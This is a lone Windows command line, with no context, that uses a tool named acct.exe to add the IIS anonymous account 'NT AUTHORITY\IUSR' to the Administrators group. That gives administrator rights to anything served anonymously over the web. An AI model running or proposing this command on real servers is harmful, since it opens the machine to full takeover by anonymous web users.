C:\tools\acct.exe -add "NT AUTHORITY\IUSR" Administrators
